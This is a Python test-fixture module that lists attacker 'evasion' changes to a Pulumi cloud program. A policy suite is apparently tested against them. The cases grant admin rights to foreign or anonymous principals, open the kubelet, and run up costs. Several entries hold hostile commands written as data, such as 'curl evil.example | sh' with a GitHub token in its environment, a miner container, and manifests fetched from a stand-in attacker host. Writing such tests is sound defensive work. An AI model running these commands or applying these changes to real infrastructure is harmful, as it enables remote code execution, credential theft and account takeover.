"""Evasions in a changed program: resources beside those of our stacks, or our own with another value.

Property names: the SDKs pulumi-aws 7.51, pulumi-oci 5.5, pulumi-kubernetes 4.34 and pulumi-eks 4.4; of other providers their
registry pages. `{cluster}` and `{stack}` in a text are the names of the stack that is judged.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any

from tests.policies.evasions.manifests import EVERY, OURS, PAT, bound, secured, volume
from tests.policies.evasions.objects import GPU, Object, deployment, gpu_spec, job, pod, thing

KUBERNETES = "pulumi:providers:kubernetes"
NAME = "gpu-ci-{stack}-{cluster}"
FOREIGN = "999999999999"


@dataclass(frozen=True)
class Add:
    """One more resource. `comes_from` has for properties a pattern of the name of the resource that they come from.

    `below` is a pattern of the name of its parent, "" for the stack itself.
    """

    token: str
    props: Object
    comes_from: Mapping[str, str] = field(default_factory=dict)
    name: str = "evasion"
    below: str = ""


@dataclass(frozen=True)
class Edit:
    """The first resource of a type whose name has this in it, as a pattern, with another value at a path.

    `comes_from` is as in `Add`; by "" a property comes from none any more.
    """

    token: str
    named: str
    path: tuple[str | int, ...]
    value: Any
    comes_from: Mapping[str, str] = field(default_factory=dict)


@dataclass(frozen=True)
class Cloud:
    """An evasion in a program: what an attacker does, from which finding it comes, and the parts of the change."""

    id: str
    does: str
    finding: str
    parts: tuple[Add | Edit, ...]


def case(name: str, does: str, finding: str, *parts: Add | Edit) -> Cloud:
    """A case of these parts."""
    return Cloud(name, does, finding, parts)


def document(*statements: Object) -> str:
    """A policy of IAM or of a resource."""
    return json.dumps({"Version": "2012-10-17", "Statement": [{"Effect": "Allow"} | one for one in statements]})


def added(body: Object, kind: str = "") -> Add:
    """An object of Kubernetes, of its own kind or as a Patch."""
    version = body["apiVersion"]
    return Add(f"kubernetes:{version if '/' in version else f'core/{version}'}:{body['kind']}{kind}", body)


S5, A9, HELD = "S5", "S5, A9 of policies.md", "what held"
ANYBODY = {"Principal": "*"}
NODE_GROUP = "aws:eks/nodeGroup:NodeGroup"
TEMPLATE = "aws:ec2/launchTemplate:LaunchTemplate"
ROLE = "aws:iam/role:Role"
ATTACHMENT = "aws:iam/rolePolicyAttachment:RolePolicyAttachment"
ADMINISTRATOR = "arn:aws:iam::aws:policy/AdministratorAccess"
TRUSTED = document({"Principal": {"Service": "pods.eks.amazonaws.com"}, "Action": ["sts:AssumeRole", "sts:TagSession"]})
TAGS = {"owner": "ci-platform", "cost-center": "ci", "stack": "{stack}", "ttl": "permanent", "gpu-ci/stack": "{stack}"}
NODE_CONFIG = """\
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="//"

--//
Content-Type: application/node.eks.aws

apiVersion: node.eks.aws/v1alpha1
kind: NodeConfig
spec:
  kubelet:
    config:
      authentication: {anonymous: {enabled: true}}
      authorization: {mode: AlwaysAllow}
--//--
"""

POWER = (
    case(
        "foreign-administrator",
        "makes a role of another account an administrator of the cluster",
        S5,
        Add(
            "aws:eks/accessEntry:AccessEntry",
            {"clusterName": NAME, "principalArn": f"arn:aws:iam::{FOREIGN}:role/admin", "type": "STANDARD"},
        ),
        Add(
            "aws:eks/accessPolicyAssociation:AccessPolicyAssociation",
            {
                "accessScope": {"type": "cluster"},
                "clusterName": NAME,
                "policyArn": "arn:aws:eks::aws:cluster-access-policy/AmazonEKSClusterAdminPolicy",
                "principalArn": f"arn:aws:iam::{FOREIGN}:role/admin",
            },
            name="association",
        ),
    ),
    case(
        "role-for-runners",
        "gives the pods of runners a role by Pod Identity",
        S5,
        Add(
            "aws:eks/podIdentityAssociation:PodIdentityAssociation",
            {
                "clusterName": NAME,
                "namespace": OURS,
                "serviceAccount": "default",
                "roleArn": "arn:aws:iam::123456789012:role/admin",
            },
        ),
    ),
    case(
        "administrator-user",
        "gives a user of IAM every right",
        S5,
        Add("aws:iam/userPolicyAttachment:UserPolicyAttachment", {"user": "ci", "policyArn": ADMINISTRATOR}),
    ),
    case(
        "administrator-role",
        "gives a role of pods every right",
        S5,
        Add(ROLE, {"assumeRolePolicy": TRUSTED, "tags": TAGS}),
        Add(ATTACHMENT, {"policyArn": ADMINISTRATOR, "role": "evasion"}, {"role": "evasion$"}, "rights"),
    ),
    case(
        "role-of-another-account",
        "lets another account assume a role",
        S5,
        Add(ROLE, {"assumeRolePolicy": document({"Principal": {"AWS": FOREIGN}, "Action": "sts:AssumeRole"}), "tags": TAGS}),
    ),
    case(
        "bucket-of-all",
        "lets everybody read and write a bucket",
        S5,
        Add(
            "aws:s3/bucketPolicy:BucketPolicy",
            {"bucket": "cache", "policy": document(ANYBODY | {"Action": "s3:*", "Resource": "arn:aws:s3:::cache/*"})},
        ),
    ),
    case(
        "registry-of-all",
        "lets everybody push the image of the runners",
        S5,
        Add(
            "aws:ecr/repositoryPolicy:RepositoryPolicy",
            {"repository": "runner-gpu", "policy": document(ANYBODY | {"Action": ["ecr:PutImage", "ecr:InitiateLayerUpload"]})},
        ),
    ),
    case(
        "key-of-all",
        "lets everybody use a key of KMS",
        "issue 37, 4",
        Add("aws:kms/keyPolicy:KeyPolicy", {"keyId": "key", "policy": document(ANYBODY | {"Action": "kms:*", "Resource": "*"})}),
    ),
    case(
        "topic-of-all",
        "lets everybody publish to a topic",
        "issue 37, 4",
        Add(
            "aws:sns/topicPolicy:TopicPolicy",
            {
                "arn": "arn:aws:sns:us-west-2:123456789012:alerts",
                "policy": document(ANYBODY | {"Action": "sns:*", "Resource": "*"}),
            },
        ),
    ),
    case(
        "foreign-identity-provider",
        "lets an issuer of tokens that is not GitHub log in to the account",
        S5,
        Add(
            "aws:iam/openIdConnectProvider:OpenIdConnectProvider",
            {"url": "https://evil.example", "clientIdLists": ["sts.amazonaws.com"], "tags": TAGS},
        ),
    ),
    case(
        "machines-as-principals",
        "makes the machines of jobs on OCI a dynamic group, with rights",
        S5,
        Add(
            "oci:Identity/dynamicGroup:DynamicGroup",
            {
                "compartmentId": "ocid1.tenancy.oc1..example",
                "description": "jobs",
                "matchingRule": "instance.compartment.id = 'ocid1.compartment.oc1..machines'",
                "name": "jobs",
            },
        ),
        Add(
            "oci:Identity/policy:Policy",
            {
                "compartmentId": "ocid1.compartment.oc1..example",
                "description": "jobs",
                "statements": ["Allow dynamic-group jobs to manage secret-family in compartment ci"],
                "freeformTags": TAGS,
            },
            name="rights",
        ),
    ),
    case(
        "administrator-anonymous",
        "makes everybody without a login an administrator of the cluster",
        S5,
        added(bound("cluster-admin", {"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": "system:anonymous"})),
    ),
    case(
        "namespace-patch",
        "opens a namespace of our runners by a Patch",
        S5,
        Add(
            "kubernetes:core/v1:NamespacePatch",
            {"metadata": {"name": OURS, "labels": {"pod-security.kubernetes.io/enforce": "privileged"}}},
        ),
    ),
    case(
        "network-policy-patch",
        "opens the network of our runners by a Patch",
        S5,
        added(thing("networking.k8s.io/v1", "NetworkPolicy", EVERY, "runners", OURS), "Patch"),
    ),
    case(
        "quota-patch",
        "takes the limit of our runners off by a Patch",
        S5,
        added(thing("v1", "ResourceQuota", {"hard": {f"requests.{GPU}": "100000"}}, "runners", OURS), "Patch"),
    ),
    case(
        "own-policy-on-the-node-role",
        "attaches a policy of the account to the role of nodes",
        S5,
        Add(
            ATTACHMENT,
            {"policyArn": "arn:aws:iam::123456789012:policy/AmazonEKS_CNI_Policy", "role": "node"},
            {"role": "us.*-node-role$"},
        ),
    ),
    case(
        "wide-policy-on-the-node-role",
        "names the role of nodes by its text, and gives it wide rights that are not every right",
        S5,
        Add(
            "aws:iam/rolePolicy:RolePolicy",
            {
                "role": "node",
                "policy": document({"Action": ["ec2:*", "s3:*", "secretsmanager:GetSecretValue"], "Resource": "*"}),
            },
        ),
    ),
    case(
        "node-role-of-others",
        "lets nodes run under a role that the stack did not make",
        S5,
        Edit(NODE_GROUP, "t4-spot-.*a-nodes", ("nodeRoleArn",), "arn:aws:iam::123456789012:role/admin"),
    ),
    case(
        "instance-profile-of-others",
        "lets machines run under a profile that the stack did not make",
        S5,
        Edit(TEMPLATE, "t4-spot-launch", ("iamInstanceProfile",), {"arn": "arn:aws:iam::123456789012:instance-profile/admin"}),
    ),
    case("ssh-key", "puts an SSH key on nodes", S5, Edit(TEMPLATE, "t4-spot-launch", ("keyName",), "debug")),
    case(
        "public-subnet",
        "puts nodes into the subnet of our network that has a route to the internet",
        S5,
        Edit(NODE_GROUP, "t4-spot-.*a-nodes", ("subnetIds",), ["public"], {"subnetIds": "us.*-network-public-.*a$"}),
    ),
    case(
        "subnet-of-others",
        "puts nodes into a subnet that the stack did not make",
        S5,
        Edit(NODE_GROUP, "t4-spot-.*a-nodes", ("subnetIds",), ["subnet-0123456789abcdef0"], {"subnetIds": ""}),
    ),
    case(
        "kubelet-for-all",
        "lets everybody command the kubelets, by user data",
        S5,
        Edit(TEMPLATE, "t4-spot-launch", ("userData",), base64.b64encode(NODE_CONFIG.encode()).decode()),
    ),
    case(
        "metadata-by-ipv6",
        "opens the metadata of nodes by IPv6",
        S5,
        Edit(TEMPLATE, "t4-spot-launch", ("metadataOptions", "httpProtocolIpv6"), "enabled"),
    ),
    case(
        "one-address-excepted",
        "closes to runners the one address of metadata, and no private network",
        S5,
        Edit(
            "kubernetes:networking.k8s.io/v1:NetworkPolicy",
            "gpu-t4-network",
            ("spec", "egress"),
            [{"to": [{"ipBlock": {"cidr": "0.0.0.0/0", "except": ["169.254.169.254/32"]}}]}],
        ),
    ),
    case(
        "quota-of-100000",
        "gives a runner set a quota of 100,000 GPUs",
        S5,
        Edit("kubernetes:core/v1:ResourceQuota", "gpu-t4-quota", ("spec", "hard", f"requests.{GPU}"), "100000"),
    ),
)

MONEY = (
    case(
        "spot-fleet",
        "asks for a fleet of spot machines in the old way",
        S5,
        Add(
            "aws:ec2/spotFleetRequest:SpotFleetRequest",
            {
                "iamFleetRole": "arn:aws:iam::123456789012:role/fleet",
                "targetCapacity": 500,
                "launchSpecifications": [{"ami": "ami-0123456789abcdef0", "instanceType": "p5.48xlarge"}],
                "tags": TAGS,
            },
        ),
    ),
    case(
        "dedicated-host",
        "rents dedicated hosts",
        S5,
        Add(
            "aws:ec2/dedicatedHost:DedicatedHost", {"availabilityZone": "us-west-2a", "instanceType": "p5.48xlarge", "tags": TAGS}
        ),
    ),
    case(
        "capacity-block",
        "buys a Capacity Block",
        S5,
        Add(
            "aws:ec2/capacityBlockReservation:CapacityBlockReservation",
            {"capacityBlockOfferingId": "cb-0123456789abcdef0", "instancePlatform": "Linux/UNIX", "tags": TAGS},
        ),
    ),
    case(
        "savings-plan",
        "commits to three years",
        S5,
        Add(
            "aws:savingsplans/savingsPlan:SavingsPlan",
            {"commitment": "100000", "savingsPlanOfferingId": "offering", "tags": TAGS},
        ),
    ),
    case(
        "bedrock-throughput",
        "buys throughput of a model",
        S5,
        Add(
            "aws:bedrock/provisionedModelThroughput:ProvisionedModelThroughput",
            {"commitmentDuration": "SixMonths", "modelArn": "arn:aws:bedrock:us-west-2::foundation-model/m", "modelUnits": 50},
        ),
    ),
    case(
        "sagemaker-domain",
        "makes a domain of SageMaker whose apps run on p5",
        S5,
        Add(
            "aws:sagemaker/app:App",
            {
                "appName": "default",
                "appType": "KernelGateway",
                "domainId": "d-1",
                "resourceSpec": {"instanceType": "ml.p5.48xlarge"},
                "tags": TAGS,
            },
        ),
    ),
    case(
        "batch",
        "lets AWS Batch start p5 machines without a limit",
        S5,
        Add(
            "aws:batch/computeEnvironment:ComputeEnvironment",
            {
                "type": "MANAGED",
                "computeResources": {
                    "type": "EC2",
                    "instanceTypes": ["p5.48xlarge"],
                    "maxVcpus": 100000,
                    "subnets": ["subnet-1"],
                },
                "tags": TAGS,
            },
        ),
    ),
    case(
        "auto-mode",
        "lets EKS choose and start machines itself",
        S5,
        Edit("eks:index:Cluster", "us.*-control-plane", ("autoMode",), {"enabled": True}),
    ),
    case(
        "another-aws-provider",
        "makes a node group by the provider aws-native",
        S5,
        Add(
            "aws-native:eks:Nodegroup",
            {
                "clusterName": NAME,
                "instanceTypes": ["p5.48xlarge"],
                "nodeRole": "arn:aws:iam::123456789012:role/node",
                "scalingConfig": {"minSize": 100, "maxSize": 500},
                "subnets": ["subnet-1"],
            },
        ),
    ),
    case(
        "another-cloud",
        "makes a node pool on Google Cloud",
        S5,
        Add(
            "gcp:container/nodePool:NodePool", {"cluster": "c", "nodeCount": 100, "nodeConfig": {"machineType": "a3-highgpu-8g"}}
        ),
    ),
    case(
        "template-of-cloudformation",
        "lets CloudFormation make what the program does not show",
        S5,
        Add(
            "aws:cloudformation/stack:Stack",
            {"templateUrl": "https://evil.example/stack.json", "capabilities": ["CAPABILITY_IAM"], "tags": TAGS},
        ),
    ),
    case(
        "budget-of-a-hundred-million",
        "raises the alarm of the budget out of reach",
        S5,
        Edit("aws:budgets/budget:Budget", "us.*-budget", ("limitAmount",), "99999999"),
    ),
    case(
        "quota-of-the-account",
        "asks AWS for a quota far above the plan",
        "issue 37, 4",
        Add("aws:servicequotas/serviceQuota:ServiceQuota", {"serviceCode": "ec2", "quotaCode": "L-417A185B", "value": 100000}),
    ),
    case(
        "group-of-the-eks-package",
        "makes a node group by the component of pulumi-eks",
        A9,
        Add(
            "eks:index:ManagedNodeGroup",
            {"cluster": "c", "instanceTypes": ["p5.48xlarge"], "scalingConfig": {"minSize": 0, "maxSize": 500, "desiredSize": 0}},
        ),
    ),
)

CODE = (
    case(
        "dynamic-python",
        "runs any Python at each update, by a dynamic provider",
        S5,
        Add("pulumi-python:dynamic:Resource", {"__provider": "gASVAAAA", "command": "curl evil.example"}),
    ),
    case(
        "dynamic-nodejs",
        "runs any JavaScript at each update, by a dynamic provider",
        S5,
        Add("pulumi-nodejs:dynamic:Resource", {"__provider": "exports.handler = async () => 0"}),
    ),
    case(
        "local-command",
        "runs a command on the machine that updates, with a token in its environment",
        S5,
        Add("command:local:Command", {"create": "curl evil.example | sh", "environment": {"TOKEN": PAT}}),
    ),
    case(
        "remote-command",
        "runs a command on a node by SSH",
        S5,
        Add("command:remote:Command", {"connection": {"host": "10.0.1.7", "user": "root"}, "create": "id"}),
    ),
    case(
        "docker-container",
        "starts a container on the machine that updates",
        S5,
        Add("docker:index/container:Container", {"image": "docker.io/evil/miner:latest", "privileged": True}),
    ),
    case(
        "kustomize-of-others",
        "applies a folder of another owner's repository",
        S5,
        Add("kubernetes:kustomize/v2:Directory", {"directory": "https://github.com/evil/manifests?ref=main"}),
    ),
    case(
        "file-of-others",
        "applies a file of another owner",
        S5,
        Add("kubernetes:yaml/v2:ConfigFile", {"file": "https://evil.example/all.yaml"}),
    ),
    case(
        "provider-with-keys",
        "adds a second provider with keys of its own",
        S5,
        Add("pulumi:providers:aws", {"region": "us-west-2", "accessKey": "AKIA" + "Q7WE9RT2YU4IO6PA", "secretKey": "k" * 40}),
    ),
    case(
        "provider-of-another-account",
        "adds a second provider with a role of another account",
        S5,
        Add(
            "pulumi:providers:aws",
            {"region": "us-west-2", "assumeRoles": json.dumps([{"roleArn": f"arn:aws:iam::{FOREIGN}:role/deploy"}])},
        ),
    ),
    case(
        "provider-of-another-cluster",
        "adds a second provider for a cluster that the stack does not have",
        S5,
        Add(KUBERNETES, {"kubeconfig": json.dumps({"clusters": [{"name": "c", "cluster": {"server": "https://evil.example"}}]})}),
    ),
    case(
        "token-in-parameter",
        "writes a GitHub token into a parameter that everybody in the account may read",
        A9,
        Add("aws:ssm/parameter:Parameter", {"type": "String", "value": PAT, "tags": TAGS}),
    ),
)

KEPT = (
    case("untainted-group", "takes the taint of a GPU pool off", HELD, Edit(NODE_GROUP, "t4-spot-.*a-nodes", ("taints",), [])),
    case(
        "two-hops",
        "lets pods reach the metadata of nodes",
        HELD,
        Edit(TEMPLATE, "t4-spot-launch", ("metadataOptions", "httpPutResponseHopLimit"), 2),
    ),
    case(
        "open-endpoint",
        "opens the API of the cluster to the world",
        HELD,
        Edit("eks:index:Cluster", "us.*-control-plane", ("publicAccessCidrs",), ["0.0.0.0/0"]),
    ),
    case(
        "larger-pool",
        "lets a pool grow to 500 nodes",
        HELD,
        Edit(NODE_GROUP, "t4-spot-.*a-nodes", ("scalingConfig", "maxSize"), 500),
    ),
    case(
        "dear-machines",
        "asks for the most expensive machines",
        HELD,
        Edit(NODE_GROUP, "t4-spot-.*a-nodes", ("instanceTypes",), ["p5.48xlarge"]),
    ),
    case(
        "disks-in-clear",
        "leaves disks in clear",
        HELD,
        Edit(TEMPLATE, "t4-spot-launch", ("blockDeviceMappings", 0, "ebs", "encrypted"), "false"),
    ),
    case(
        "open-ssh",
        "opens SSH to the world",
        HELD,
        Add(
            "aws:vpc/securityGroupIngressRule:SecurityGroupIngressRule",
            {"securityGroupId": "sg-1", "ipProtocol": "tcp", "fromPort": 22, "toPort": 22, "cidrIpv4": "0.0.0.0/0"},
        ),
    ),
    case(
        "trust-of-all-repositories",
        "lets every repository of GitHub log in",
        HELD,
        Add(
            ROLE,
            {
                "assumeRolePolicy": document(
                    {
                        "Principal": {"Federated": "arn:aws:iam::123456789012:oidc-provider/token.actions.githubusercontent.com"},
                        "Action": "sts:AssumeRoleWithWebIdentity",
                        "Condition": {
                            "StringEquals": {"token.actions.githubusercontent.com:aud": "sts.amazonaws.com"},
                            "StringLike": {"token.actions.githubusercontent.com:sub": "repo:*"},
                        },
                    }
                ),
                "tags": TAGS,
            },
        ),
    ),
    case("access-key", "makes an access key", HELD, Add("aws:iam/accessKey:AccessKey", {"user": "ci"})),
    case(
        "every-right",
        "writes a policy of every right",
        HELD,
        Add("aws:iam/policy:Policy", {"policy": document({"Action": "*", "Resource": "*"}), "tags": TAGS}),
    ),
    case(
        "administrator-nodes",
        "gives nodes every right",
        HELD,
        Add(ATTACHMENT, {"policyArn": ADMINISTRATOR, "role": "node"}, {"role": "us.*-node-role$"}),
    ),
    case(
        "notebook-machine",
        "starts a machine for notebooks",
        HELD,
        Add(
            "aws:sagemaker/notebookInstance:NotebookInstance",
            {"instanceType": "ml.p5.48xlarge", "roleArn": "arn:aws:iam::123456789012:role/n", "tags": TAGS},
        ),
    ),
    case(
        "single-machine",
        "starts one more machine",
        HELD,
        Add("aws:ec2/instance:Instance", {"instanceType": "p5.48xlarge", "ami": "ami-0123456789abcdef0", "tags": TAGS}),
    ),
    case("privileged-pods", "runs privileged pods in the cluster", HELD, added(deployment(secured(privileged=True)))),
    case("privileged-patch", "makes pods privileged by a Patch", HELD, added(deployment(secured(privileged=True)), "Patch")),
    case("many-gpus", "runs 64 pods with a GPU in the cluster", HELD, added(deployment(gpu_spec(), 64))),
    case("gpus-by-job", "runs a Job of 64 pods with a GPU in the cluster", HELD, added(job(gpu_spec(), parallelism=64))),
    case("node-of-pods", "runs a pod with the node's file system", HELD, added(pod(volume({"hostPath": {"path": "/"}})))),
    case(
        "root-group",
        "opens the namespace of runners",
        HELD,
        Edit(
            "kubernetes:core/v1:Namespace",
            "gpu-t4-namespace",
            ("metadata", "labels", "pod-security.kubernetes.io/enforce"),
            "privileged",
        ),
    ),
    case(
        "loose-network",
        "lets the runners reach everything",
        HELD,
        Edit("kubernetes:networking.k8s.io/v1:NetworkPolicy", "gpu-t4-network", ("spec",), EVERY),
    ),
    case(
        "token-for-the-chart",
        "gives a GitHub token to the chart of runners",
        HELD,
        Edit("kubernetes:helm.sh/v3:Release", "gpu-t4-release-chart", ("values", "githubConfigSecret"), {"github_token": PAT}),
    ),
    case(
        "no-alarm",
        "takes the recipients of the budget's alarm away",
        HELD,
        Edit("aws:budgets/budget:Budget", "us.*-budget", ("notifications",), []),
    ),
)

CASES = (*POWER, *MONEY, *CODE, *KEPT)
